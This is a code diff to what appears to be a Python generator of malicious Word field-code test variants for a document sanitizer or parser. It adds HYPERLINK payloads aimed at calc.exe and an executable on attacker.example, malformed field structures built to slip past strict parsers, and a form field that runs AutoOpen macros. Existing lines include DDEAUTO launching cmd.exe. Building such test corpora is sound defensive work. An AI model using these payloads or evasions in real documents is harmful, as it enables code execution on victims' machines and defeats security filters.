@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import itertools
 import random
+import re
 from collections.abc import Callable
 from dataclasses import dataclass
 from functools import partial
@@ -45,6 +46,10 @@ FIELDS: tuple[FieldAttack, ...] = (
     FieldAttack("MACROBUTTON", r"MACROBUTTON Normal.NewMacros.AutoOpen ここをクリック"),
     FieldAttack("HYPERLINK-file", r'HYPERLINK "file:///C:/Windows/System32/calc.exe"'),
     FieldAttack("HYPERLINK-unc", r'HYPERLINK "\\\\attacker.example\\share\\a.exe"'),
+    # the target after a switch that takes an argument (a parser taking the first quoted word sees a tooltip)
+    FieldAttack("HYPERLINK-file-after-switch", r'HYPERLINK \o "ヒント" "file:///C:/Windows/System32/calc.exe"'),
+    FieldAttack("HYPERLINK-unc-with-bookmark", r'HYPERLINK \l "_top" "\\\\attacker.example\\share\\a.exe"'),
+    FieldAttack("HYPERLINK-file-unquoted", r"HYPERLINK file:///C:/Windows/System32/calc.exe"),
     # { {QUOTE 68 68 69 65 85 84 79} c:\\windows\\system32\\cmd.exe "/k calc.exe" } -> DDEAUTO ...
     FieldAttack("QUOTE-nested-DDEAUTO", r' c:\\windows\\system32\\cmd.exe "/k calc.exe"', "QUOTE 68 68 69 65 85 84 79"),
     # PRINT sends its argument to the printer driver (PostScript passthrough)
@@ -170,6 +175,38 @@ def complex_field(field: FieldAttack, encode: Encoder, split_paragraphs: bool = 
                       + _char("end") + encode(field.instruction[field.nested_at:]))
         return [f"<w:p>{_char('begin')}{first}</w:p>", f"<w:p>{second}{tail}</w:p>"]
     return [f"<w:p>{_char('begin')}{instruction}{tail}</w:p>"]
+
+
+def structural(field: FieldAttack, how: str) -> list[str]:
+    """Field markup a strict parser might not expect but Word reads: no separator, never closed,
+    stray end and separator characters first, all field characters and the instruction in one run,
+    and the field inside the result of a local (PAGE) field."""
+    paragraph = complex_field(field, plain)[0]
+    inner = paragraph[len("<w:p>"):-len("</w:p>")]
+    if how == "no-separate":
+        inner = inner.replace(_char("separate") + _run(f"<w:t>{RESULT}</w:t>"), "", 1)  # the outer one
+    elif how == "never-closed":
+        inner = inner[: inner.rindex(_char("separate"))]
+    elif how == "stray-end-and-separate-first":
+        inner = _char("end") + _char("separate") + inner
+    elif how == "one-run":
+        inner = re.sub(r"</w:r><w:r>", "", inner)
+    elif how == "inside-PAGE-result":
+        inner = (_char("begin") + _run(_instr(" PAGE ")) + _char("separate") + inner + _char("end"))
+    return [f"<w:p>{inner}</w:p>"]
+
+
+STRUCTURES = ("no-separate", "never-closed", "stray-end-and-separate-first", "one-run", "inside-PAGE-result")
+
+
+def form_field_macro(package: Package) -> None:
+    """A legacy text form field that names macros to run on entry and exit."""
+    _before_sectpr(package, '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="Text1"/>'
+                            '<w:enabled/><w:calcOnExit w:val="0"/><w:entryMacro w:val="AutoOpen"/>'
+                            '<w:exitMacro w:val="Normal.NewMacros.Run"/><w:textInput/></w:ffData></w:fldChar></w:r>'
+                            '<w:r><w:instrText xml:space="preserve"> FORMTEXT </w:instrText></w:r>'
+                            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>入力</w:t></w:r>'
+                            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
 
 
 def _deleted_instruction(instruction: str) -> str:
@@ -387,6 +424,8 @@ def word_field_variants(base: str, stories: bool = True, full: bool = True) -> l
         add(field, "dirty-locked", "body", [p.replace('w:fldCharType="begin"/>', dirty)
                                             for p in complex_field(field, plain)], in_body)
         add(field, "all-deleted", "body", all_deleted_field(field), in_body)
+        for how in STRUCTURES:
+            add(field, how, "body", structural(field, how), in_body)
         add(field, "fldSimple", "body", simple_field(field), in_body)
         if field.nested is None:
             add(field, "fldSimple-entity", "body", simple_field(field, "entity"), in_body)
@@ -408,4 +447,6 @@ def word_field_variants(base: str, stories: bool = True, full: bool = True) -> l
         add(field, "strict", "footnote", complex_field(field, plain), partial(in_note, "footnotes"), strict=True)
         if stories:
             add(field, "strict", "header", complex_field(field, plain), in_header, strict=True)
+    if full:
+        out.append(Variant("word-field", "FORMTEXT-entryMacro", "plain", "body", base, form_field_macro))
     return out
